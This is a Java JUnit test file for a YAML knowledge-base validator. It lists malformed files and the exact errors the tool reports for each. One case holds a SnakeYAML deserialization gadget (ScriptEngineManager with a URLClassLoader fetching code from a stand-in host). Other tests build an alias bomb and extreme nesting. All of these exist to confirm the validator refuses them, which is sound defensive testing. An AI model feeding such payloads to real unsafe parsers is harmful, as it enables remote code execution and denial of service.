package okpay.support.kb;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import okpay.support.cli.CliRunner;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** A table of broken knowledge-base files, each with the exact problem {@code kb validate} must report. */
class BrokenKnowledgeBaseTest {
    @TempDir
    Path dir;

    static String minimal() throws IOException {
        try (InputStream in = BrokenKnowledgeBaseTest.class.getResourceAsStream("/kb/minimal.yaml")) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    /** name, text to replace in minimal.yaml, replacement, expected "line:column: message". */
    static Stream<Arguments> brokenFiles() {
        return Stream.of(
                Arguments.of("unknown key with suggestion", "    urgency: high", "    urgncy: high",
                        "67:5: unknown key 'urgncy' in topic (did you mean 'urgency'?)"),
                Arguments.of("unknown top-level section", "safety_tips:", "safety_tip:",
                        "10:1: unknown key 'safety_tip' in knowledge base (did you mean 'safety_tips'?)"),
                Arguments.of("missing required field", "    advice: {zh: 尽快联系。, en: Contact support soon.}\n", "",
                        "64:5: topic is missing required field 'advice'"),
                Arguments.of("missing translation", "title: {zh: 钱没到账, en: Money has not arrived}", "title: {zh: 钱没到账}",
                        "88:12: faq 'funds-not-received' title is missing the English (en) translation"),
                Arguments.of("empty translation", "answer: {zh: 先查看交易状态。, en: Check the transaction status first.}",
                        "answer: {zh: '', en: Check the transaction status first.}",
                        "89:18: faq 'funds-not-received' answer.zh must be a non-empty string"),
                Arguments.of("dangling related id", "related: []", "related: [funds-not-recieved]",
                        "96:15: faq 'funds-not-received' related refers to unknown faq 'funds-not-recieved' (did you mean 'funds-not-received'?)"),
                Arguments.of("dangling topic of a faq", "    topic: funds", "    topic: money",
                        "93:12: faq 'funds-not-received' topic refers to unknown topic 'money'"),
                Arguments.of("unknown channel in a topic", "channels: [hotline, website, email, social]",
                        "channels: [hotline, website, mail, social]",
                        "69:34: topic 'funds' channels refers to unknown channel 'mail' (did you mean 'email'?)"),
                Arguments.of("duplicate id", "  - id: funds\n", "  - id: funds\n    name: {zh: 资金, en: Money}\n    description: {zh: a, en: a}\n"
                        + "    urgency: low\n    advice: {zh: a, en: a}\n    channels: [website]\n    faqs: []\n  - id: funds\n",
                        "71:9: duplicate topic id 'funds' (first defined at line 64)"),
                Arguments.of("duplicate key", "    tags: [funds]\n", "    tags: [funds]\n    tags: [money]\n",
                        "93:5: duplicate key 'tags' (first defined at line 92)"),
                Arguments.of("bad id", "  - id: funds-not-received", "  - id: Funds Not Received",
                        "87:9: faq id 'Funds Not Received' must be lowercase letters and digits joined by '-' (like 'forgot-password')"),
                Arguments.of("bad urgency", "urgency: high", "urgency: soon",
                        "67:14: topic 'funds' urgency 'soon' is not one of low, normal, high, critical"),
                Arguments.of("bad region code", "    - code: DE", "    - code: Germany",
                        "60:13: region code 'Germany' must be two capital letters (ISO 3166), like US"),
                Arguments.of("hours without number", "      name: {zh: 德国, en: Germany}",
                        "      name: {zh: 德国, en: Germany}\n      hours: {zh: 全天, en: all day}",
                        "62:14: region 'DE' has hours but no number"),
                Arguments.of("unsupported version", "version: 1", "version: 7",
                        "2:10: version 7 is not supported; this tool reads version 1"),
                Arguments.of("global tag is refused, never constructed", "version: 1",
                        "version: 1\nexploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example/\"]]]]",
                        "3:10: tag 'tag:yaml.org,2002:javax.script.ScriptEngineManager' is not allowed; a knowledge base holds only plain strings, numbers, lists and mappings"),
                Arguments.of("malformed YAML", "    tags: [funds]", "    tags: [funds",
                        "93:10: malformed YAML: while parsing a flow sequence: expected ',' or ']', but got :"),
                Arguments.of("sequence where a mapping belongs", "product:\n  name: {zh: 测试钱包, en: Test Wallet}\n  official_domains: [okpay.example]\n  notice: {zh: 示例数据。, en: Sample data.}\n",
                        "product: [a, b]\n", "3:10: product must be a mapping with name, notice, official_domains"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("brokenFiles")
    void reportsTheProblemAtItsPosition(String name, String target, String replacement, String expected) throws IOException {
        KbValidation.assertReported(dir, minimal(), target, replacement, expected);
    }

    @Test
    void minimalFileIsValid() throws IOException {
        Path file = dir.resolve("ok.yaml");
        Files.writeString(file, minimal());
        CliRunner.Result result = CliRunner.runEn("kb", "validate", file.toString());
        assertEquals(0, result.exitCode(), result.toString());
        assertTrue(result.out().startsWith(file + ": valid"), result.out());
    }

    @Test
    void reportsEveryProblemAtOnceInFileOrder() throws IOException {
        String broken = minimal().replace("urgency: high", "urgency: soon").replace("related: []", "related: [nope]")
                .replace("safety_tips:", "safety_tipz:").replace("    how: {zh: 写信。, en: Write.}\n", "");
        Path file = dir.resolve("many.yaml");
        Files.writeString(file, broken);

        CliRunner.Result result = CliRunner.runEn("kb", "validate", file.toString());

        assertEquals(4, result.exitCode());
        java.util.List<String> problems = result.out().lines().filter(l -> l.matches(java.util.regex.Pattern.quote(file.toString()) + ":\\d+:\\d+: .*")).toList();
        assertEquals(5, problems.size(), result.toString());
        assertTrue(problems.get(0).endsWith(":2:1: knowledge base is missing required field 'safety_tips'"), problems.get(0));
        assertTrue(problems.get(1).endsWith(":10:1: unknown key 'safety_tipz' in knowledge base (did you mean 'safety_tips'?)"), problems.get(1));
        assertTrue(problems.stream().anyMatch(p -> p.contains("is missing required field 'how'")), problems.toString());
        assertTrue(problems.stream().anyMatch(p -> p.contains("urgency 'soon'")), problems.toString());
        assertTrue(problems.stream().anyMatch(p -> p.contains("unknown faq 'nope'")), problems.toString());
    }

    @Test
    void aliasBombIsRefused() throws IOException {
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            char prev = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(prev).append(", *").append(prev).append(", *")
                    .append(prev).append(", *").append(prev).append("]\n");
        }
        Path file = dir.resolve("bomb.yaml");
        Files.writeString(file, bomb.toString());

        CliRunner.Result result = CliRunner.runEn("kb", "validate", file.toString());

        assertEquals(4, result.exitCode());
        assertTrue(result.out().contains("Number of aliases for non-scalar nodes exceeds the specified max=20"), result.toString());
    }

    @Test
    void deepNestingIsRefused() throws IOException {
        Path file = dir.resolve("deep.yaml");
        Files.writeString(file, "x: " + "[".repeat(200) + "]".repeat(200) + "\n");
        CliRunner.Result result = CliRunner.runEn("kb", "validate", file.toString());
        assertEquals(4, result.exitCode());
        assertTrue(result.out().contains("Nesting Depth exceeded max 24"), result.toString());
    }

    @Test
    void oversizedFileIsRefusedBeforeParsing() throws IOException {
        Path file = dir.resolve("big.yaml");
        Files.write(file, new byte[SafeYaml.KNOWLEDGE_BASE.maxBytes() + 10]);
        CliRunner.Result result = CliRunner.runEn("kb", "validate", file.toString());
        assertEquals(4, result.exitCode());
        assertTrue(result.out().contains(file + ":1:1: file is larger than 4 MiB"), result.toString());
    }

    @Test
    void nonUtf8AndEmptyFilesAreReported() throws IOException {
        Path latin1 = dir.resolve("latin1.yaml");
        Files.write(latin1, "name: caf\u00e9".getBytes(StandardCharsets.ISO_8859_1));
        Path empty = dir.resolve("empty.yaml");
        Files.writeString(empty, "# nothing here\n");

        assertTrue(CliRunner.runEn("kb", "validate", latin1.toString()).out().contains(latin1 + ":1:1: file is not valid UTF-8"));
        assertTrue(CliRunner.runEn("kb", "validate", empty.toString()).out().contains(empty + ":1:1: file is empty"));
    }

    @Test
    void missingFileIsAOneLineErrorOnStderr() {
        CliRunner.Result result = CliRunner.runEn("--kb", dir.resolve("nope.yaml").toString(), "faq", "list");
        assertEquals(4, result.exitCode());
        assertEquals("", result.out());
        assertTrue(result.err().startsWith("error: knowledge base file '" + dir.resolve("nope.yaml") + "' does not exist\n"), result.err());
        assertFalse(result.err().contains("\tat "), "no stack trace");
    }

    @Test
    void invalidFileGivenToAnyCommandListsEveryProblem() throws IOException {
        Path file = dir.resolve("bad.yaml");
        Files.writeString(file, minimal().replace("urgency: high", "urgency: soon").replace("related: []", "related: [nope]"));
        CliRunner.Result result = CliRunner.runEn("faq", "list", "--kb", file.toString());
        assertEquals(4, result.exitCode());
        assertEquals("", result.out());
        assertTrue(result.err().startsWith("error: knowledge base '" + file + "' has 2 problems:\n" + file + ":67:14: "), result.err());
        assertTrue(result.err().contains(file + ":96:15: faq 'funds-not-received' related refers to unknown faq 'nope'"), result.err());
    }

    @Test
    void environmentVariableNamesTheKnowledgeBase() throws IOException {
        Path file = dir.resolve("env.yaml");
        Files.writeString(file, minimal());
        CliRunner.Result result = new CliRunner().env("OKPAY_SUPPORT_KB", file.toString()).run("faq", "list", "--format", "json");
        assertEquals(0, result.exitCode(), result.toString());
        assertTrue(result.out().contains("\"funds-not-received\""));
        assertEquals(1, result.out().split("\"id\"").length - 1, "the minimal file has one entry");
    }
}
